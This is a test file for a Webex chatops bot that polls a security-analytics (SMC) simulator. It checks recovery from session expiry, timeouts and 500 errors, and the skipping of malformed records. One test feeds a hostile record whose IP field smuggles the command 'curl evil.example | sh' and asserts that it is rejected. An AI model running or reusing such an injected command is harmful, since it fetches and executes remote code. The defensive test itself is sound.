/**
 * The SMC misbehaving under the poller: a session that expires in the middle of a search job,
 * a status poll that does not answer in time, and 500s. What an operator notices: `/status`
 * says the SMC is failing while it lasts, the poller comes back by itself, and every event
 * (also those that happened or changed during the trouble) ends up on exactly one card.
 *
 * The SMC simulator has no latency injection; the timeout case puts a small HTTP proxy in
 * front of it (tests/helpers/http-proxy.ts) that holds the job-status poll.
 */
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { App } from '../../bot/app.js';
import { type SmcSimulator, startSmcSimulator } from '../../sandbox/smc/index.js';
import type { WebexMessage } from '../../sandbox/webex/index.js';
import { type HttpFaultProxy, startHttpProxy } from '../helpers/http-proxy.js';
import { cardText, createWorld, eventually, startBot, type World } from '../helpers/world.js';

const HIGH_TOTAL_TRAFFIC = 16;
const EVENTS = '/sw-reporting/v1/tenants/102/security-events';

let world: World;
let app: App | undefined;
let proxy: HttpFaultProxy | undefined;
let slowSmc: SmcSimulator | undefined;

beforeAll(async () => {
  // Jobs complete on the first status poll (0.1 s after the job starts).
  world = await createWorld({ smc: { pollsUntilComplete: 0 } });
});
afterEach(async () => {
  await app?.stop();
  app = undefined;
  await proxy?.close();
  proxy = undefined;
  await slowSmc?.close();
  slowSmc = undefined;
  world.smc.reset(); // the next test's bot, on fresh state, would alert again for these events
});
afterAll(async () => {
  await world.close();
});

// Polls every 0.5 s: the poller's backoff after a failure starts from the poll interval (0.5, 1, 2 s…).
const env = (overrides: Record<string, string> = {}) =>
  world.env({ AUTO_ENRICH: 'false', SNA_POLL_SECONDS: '0.5', ...overrides });
const cardsFor = (host: string) => world.cards().filter((m) => cardText(m).includes(host));
const queryStarts = (smc: SmcSimulator = world.smc) =>
  smc.calls.filter((c) => c.method === 'POST' && c.path === `${EVENTS}/queries`);
const logins = () => world.smc.calls.filter((c) => c.path === '/token/v2/authenticate').length;

async function ask(text: string): Promise<string> {
  const { message } = await world.webex.userSays({
    personId: world.operator.id,
    roomId: world.alertRoom.id,
    text,
    mentionBot: true,
  });
  const answer = await eventually<WebexMessage>(
    () =>
      world.webex
        .messagesIn(world.alertRoom.id)
        .find((m) => m.personId === world.webex.bot.id && m.parentId === message.id),
    10_000,
    `the answer to ${text}`,
  );
  return answer.markdown ?? '';
}

async function oneCardFor(host: string, matching: RegExp = /./): Promise<WebexMessage> {
  return eventually(
    () => {
      const cards = cardsFor(host);
      return cards.length === 1 && matching.test(cardText(cards[0] as WebexMessage)) ? cards[0] : undefined;
    },
    20_000,
    `exactly one card for ${host} matching ${matching}`,
  );
}

/** Lets another poll read the same window, then checks nothing was posted twice. */
async function settleAndCount(hosts: string[], smc: SmcSimulator = world.smc): Promise<void> {
  const results = () => smc.calls.filter((c) => c.method === 'GET' && c.path.startsWith(`${EVENTS}/results/`)).length;
  const read = results();
  await eventually(() => results() > read, 15_000, 'another poll to read the window');
  await new Promise((r) => setTimeout(r, 600)); // what that poll queued reaches Webex
  for (const host of hosts) expect(cardsFor(host), host).toHaveLength(1);
}

describe('SMC session expiry in the middle of a search job', () => {
  it('logs in again, finishes the same poll, and alerts exactly once', async () => {
    app = await startBot(env());
    world.smc.addEvent({ typeId: HIGH_TOTAL_TRAFFIC, sourceIp: '10.60.1.1', targetIp: '52.109.10.1' });
    await oneCardFor('10.60.1.1');

    const loginsBefore = logins();
    const startsBefore = queryStarts().length;
    world.smc.addEvent({ typeId: HIGH_TOTAL_TRAFFIC, sourceIp: '10.60.1.2', targetIp: '52.109.10.2' });
    // The job is started; the client waits 1 s before polling its status. Expire now.
    await eventually(() => queryStarts().length > startsBefore, 10_000, 'a search job to start');
    const jobsStarted = queryStarts().length;
    world.smc.expireSessions();

    await oneCardFor('10.60.1.2');
    const statusPolls = world.smc.calls.filter((c) => c.method === 'GET' && c.path.startsWith(`${EVENTS}/queries/`));
    expect(statusPolls.some((c) => c.status === 401)).toBe(true);
    expect(logins()).toBe(loginsBefore + 1);
    // The interrupted job was finished, not abandoned: no extra job was needed to get the card.
    expect(queryStarts().length).toBeLessThanOrEqual(jobsStarted + 1);
    const status = await ask('/status');
    expect(status).toMatch(/SMC session: logged in since .*\(2 logins so far\)/);
    expect(status).toMatch(/Last poll: .*ok/);
    await settleAndCount(['10.60.1.1', '10.60.1.2']);
  });
});

describe('SMC search job that does not complete in time', () => {
  it('reports the timeout on /status, backs off, and recovers without losing or doubling events', async () => {
    // Its own SMC whose jobs need two status polls, behind a proxy that can slow them down.
    const smc = await startSmcSimulator({ pollsUntilComplete: 1 });
    slowSmc = smc;
    proxy = await startHttpProxy(smc.url);
    app = await startBot(env({ SNA_URL: proxy.url, SNA_QUERY_TIMEOUT_SECONDS: '5' }));
    const ongoing = smc.addEvent({ typeId: HIGH_TOTAL_TRAFFIC, sourceIp: '10.60.2.1', targetIp: '52.109.10.3' });
    const first = await oneCardFor('10.60.2.1', /1 hit\b/);

    // Each job-status poll now takes 5.5 s: the first one (after a 0.1 s pause) already outlasts
    // the 5 s SNA_QUERY_TIMEOUT_SECONDS, so the query gives up.
    proxy.setDelay(5500, { method: 'GET', pathPrefix: `${EVENTS}/queries/` });
    smc.addEvent({ typeId: HIGH_TOTAL_TRAFFIC, sourceIp: '10.60.2.2', targetIp: '52.109.10.4' });
    smc.updateEvent(ongoing.id, { hitCount: 4, lastActive: new Date() });

    const failing = await eventually(
      async () => {
        const text = await ask('/status');
        return /Last poll: \*\*failing\*\*/.test(text) ? text : undefined;
      },
      30_000,
      '/status to report the failing poll',
    );
    expect(failing).toMatch(/failing\*\* \(\d+×\): the SMC did not answer in time; next try/);
    expect(cardsFor('10.60.2.2')).toHaveLength(0);

    proxy.clearDelays();
    await oneCardFor('10.60.2.2');
    const updated = await oneCardFor('10.60.2.1', /4 hits/);
    expect(updated.id).not.toBe(first.id); // replaced (edits refused), still exactly one
    expect(await ask('/status')).toMatch(/Last poll: .*ok/);
    await settleAndCount(['10.60.2.1', '10.60.2.2'], smc);
  });
});

describe('SMC answering 500', () => {
  it('backs off exponentially, says so on /status, and recovers with nothing lost or doubled', async () => {
    app = await startBot(env());
    const ongoing = world.smc.addEvent({ typeId: HIGH_TOTAL_TRAFFIC, sourceIp: '10.60.3.1', targetIp: '52.109.10.5' });
    await oneCardFor('10.60.3.1', /1 hit\b/);

    const startsBefore = queryStarts().length;
    world.smc.failNext(3, 500, { method: 'POST', pathPrefix: `${EVENTS}/queries` });
    world.smc.addEvent({ typeId: HIGH_TOTAL_TRAFFIC, sourceIp: '10.60.3.2', targetIp: '52.109.10.6' });
    world.smc.updateEvent(ongoing.id, { hitCount: 3, lastActive: new Date() });

    await eventually(() => queryStarts().filter((c) => c.status === 500).length >= 2, 15_000, 'two failed polls');
    const status = await ask('/status');
    // "… s ago" when the next try is due and under way as /status is answered (a loaded machine).
    expect(status).toMatch(
      /Last poll: \*\*failing\*\* \([23]×\): the SMC had an internal error \(500\); next try (in \d+ s|\d+ s ago)/,
    );
    expect(status).toMatch(/Last good poll: \d+ s ago/);

    await oneCardFor('10.60.3.2');
    await oneCardFor('10.60.3.1', /3 hits/);
    const attempts = queryStarts().slice(startsBefore);
    const failed = attempts.filter((c) => c.status === 500);
    expect(failed).toHaveLength(3);
    // 0.5 s, 1 s, 2 s (the poll interval doubled, less up to 20 %) after the 1st, 2nd and 3rd
    // failure: each wait longer than the last.
    const times = attempts.slice(0, 4).map((c) => Date.parse(c.time));
    const gaps = times.slice(1).map((t, i) => t - (times[i] ?? t));
    expect(gaps).toHaveLength(3);
    expect(gaps[1]).toBeGreaterThan(gaps[0] ?? Infinity);
    expect(gaps[2]).toBeGreaterThan(gaps[1] ?? Infinity);
    expect(gaps[2]).toBeGreaterThanOrEqual(1600);
    expect(await ask('/status')).toMatch(/Last poll: .*ok/);
    await settleAndCount(['10.60.3.1', '10.60.3.2']);
  });
});

describe('SMC sending a malformed security-event record', () => {
  it('skips that record, still alerts for the others, and says so on /status', async () => {
    app = await startBot(env());
    world.smc.addEvent({ typeId: HIGH_TOTAL_TRAFFIC, sourceIp: '10.60.4.1', targetIp: '52.109.10.7' });
    await oneCardFor('10.60.4.1');

    // A hostile record in every results answer from now on: an IP field carrying a command.
    const hostile = {
      id: 990_001,
      securityEventType: HIGH_TOTAL_TRAFFIC,
      firstActiveTime: '2026-12-01T10:00:00.000+0000',
      lastActiveTime: '2026-12-01T10:01:00.000+0000',
      source: { ipAddress: '10.60.4.9; curl evil.example | sh', tags: [] },
      hitCount: 1,
    };
    world.smc.addMalformedRecord(hostile, 1000);
    world.smc.addEvent({ typeId: HIGH_TOTAL_TRAFFIC, sourceIp: '10.60.4.2', targetIp: '52.109.10.8' });

    await oneCardFor('10.60.4.2');
    const status = await eventually(
      async () => {
        const text = await ask('/status');
        return /malformed/.test(text) ? text : undefined;
      },
      15_000,
      '/status to mention the malformed record',
    );
    expect(status).toMatch(/Last poll: .*ok.*\*\*1 malformed SMC record skipped\*\*/);
    expect(status).not.toContain('curl');
    expect(world.cards().some((m) => cardText(m).includes('10.60.4.9'))).toBe(false);
    const metrics = await (await fetch(`${app.url}/metrics`)).text();
    expect(Number(/^sna_chatops_sna_records_malformed_total (\d+)$/m.exec(metrics)?.[1])).toBeGreaterThanOrEqual(1);
    await settleAndCount(['10.60.4.1', '10.60.4.2']);
  });
});
